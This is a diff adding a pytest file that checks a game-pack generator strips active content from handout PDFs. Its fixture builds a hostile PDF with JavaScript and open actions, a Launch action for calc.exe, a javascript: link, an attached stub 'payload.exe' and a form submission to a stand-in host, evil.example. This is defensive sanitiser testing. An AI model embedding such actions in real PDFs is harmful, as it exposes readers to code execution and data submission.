@@ -1,0 +1,120 @@
+"""A handout PDF loses its active content on its way into a pack
+(render/handouts.py).
+
+A handout is made with pypdf carrying document JavaScript, an open action,
+an additional action on its page, a launch link, a `javascript:` link, an
+embedded file and a file attachment, beside a plain web link. After `pack`,
+the player's envelope and the print shop's zip copy are read back with
+pypdf: none of the active content is there, the web link is, and the
+stuffing manifest says what was removed from which handout.
+"""
+from __future__ import annotations
+
+import csv
+import shutil
+import zipfile
+from io import BytesIO
+from pathlib import Path
+
+import pytest
+from pypdf import PdfReader, PdfWriter
+from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject
+
+from generator.commands.pack import pack
+from generator.systems.sixes import SYSTEM as SIXES
+
+ACTIVE_MARKS = (b"/JavaScript", b"/JS", b"/Launch", b"/OpenAction", b"/AA", b"/EmbeddedFiles", b"/FileAttachment",
+                b"app\\056alert", b"calc\\056exe", b"/SubmitForm")
+
+
+def _action(kind: str, **entries: str) -> DictionaryObject:
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        action[NameObject(f"/{key}")] = TextStringObject(value)
+    return action
+
+
+def _link(writer: PdfWriter, action: DictionaryObject, subtype: str = "/Link") -> object:
+    annotation = DictionaryObject({
+        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
+        NameObject("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(60), FloatObject(60)]),
+        NameObject("/A"): action})
+    return writer._add_object(annotation)
+
+
+def hostile_handout(path: Path) -> None:
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    writer.add_attachment("payload.exe", b"MZ evil")
+    script = writer._add_object(_action("/JavaScript", JS="app.alert('document')"))
+    writer._root_object["/Names"][NameObject("/JavaScript")] = DictionaryObject(
+        {NameObject("/Names"): ArrayObject([TextStringObject("hello"), script])})
+    writer._root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS="app.alert('open')")
+    page = writer.pages[0]
+    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS="app.alert('page')")})
+    page[NameObject("/Annots")] = ArrayObject([
+        _link(writer, _action("/Launch", F="calc.exe")),
+        _link(writer, _action("/URI", URI="javascript:app.alert('uri')")),
+        _link(writer, _action("/URI", URI="https://example.org/map")),
+        _link(writer, _action("/SubmitForm", F="https://evil.example/collect")),
+        _link(writer, _action("/GoTo"), subtype="/FileAttachment"),
+    ])
+    with open(path, "wb") as handle:
+        writer.write(handle)
+
+
+@pytest.fixture(scope="module")
+def packed(tmp_path_factory) -> tuple[Path, Path]:
+    """The starter game packed with the hostile handout in Robin's envelope:
+    (the A4 folder, the zip)."""
+    root = tmp_path_factory.mktemp("handouts")
+    data = root / "data"
+    shutil.copytree(SIXES.starter, data / "sixes")
+    (data / "handouts").mkdir()
+    hostile_handout(data / "handouts" / "letter.pdf")
+    casting = root / "casting.yaml"
+    casting.write_text("envelopes:\n  - player: Robin Ash\n    character: First Rival\n"
+                       "    handouts: [handouts/letter.pdf]\n")
+    report = pack(data, root / "out", ("a4",), casting_file=casting, workers=1)
+    (archive,) = report.zips
+    return root / "out" / "pack" / "sixes" / "a4", archive
+
+
+def _active_in(data: bytes) -> list[bytes]:
+    reader = PdfReader(BytesIO(data))
+    writer = PdfWriter()        # written out uncompressed, so every key can be searched as bytes
+    writer.clone_document_from_reader(reader)
+    out = BytesIO()
+    writer.write(out)
+    return [mark for mark in ACTIVE_MARKS if mark in out.getvalue()]
+
+
+def test_the_hostile_handout_is_hostile(tmp_path):
+    hostile_handout(tmp_path / "h.pdf")
+    assert len(_active_in((tmp_path / "h.pdf").read_bytes())) == len(ACTIVE_MARKS)
+
+
+def test_the_envelope_and_the_zip_hold_no_active_content(packed):
+    folder, archive = packed
+    envelope = (folder / "envelopes" / "01-robin-ash.pdf").read_bytes()
+    with zipfile.ZipFile(archive) as zf:
+        zipped = zf.read("a4/envelopes/01-robin-ash.pdf")
+    for data in (envelope, zipped):
+        assert _active_in(data) == []
+        reader = PdfReader(BytesIO(data))
+        assert "/OpenAction" not in reader.trailer["/Root"] and "/Names" not in reader.trailer["/Root"] \
+            or "/JavaScript" not in reader.trailer["/Root"].get("/Names", {})
+        links = [a.get_object()["/A"].get("/URI") for page in reader.pages for a in page.get("/Annots", [])
+                 if "/A" in a.get_object()]
+        assert "https://example.org/map" in links
+
+
+def test_the_manifest_says_what_was_removed(packed):
+    folder, _ = packed
+    with open(folder / "manifest.csv", newline="", encoding="utf-8") as handle:
+        rows = {r["envelope"]: r["contents"] for r in csv.DictReader(handle)}
+    assert ("Handout: letter (active content removed: " in rows["1"])
+    for word in ("JavaScript", "a launch action", "embedded files", "an attached file", "a script link",
+                 "a form submission", "additional actions"):
+        assert word in rows["1"], word
+    assert "active content" not in rows["2"]
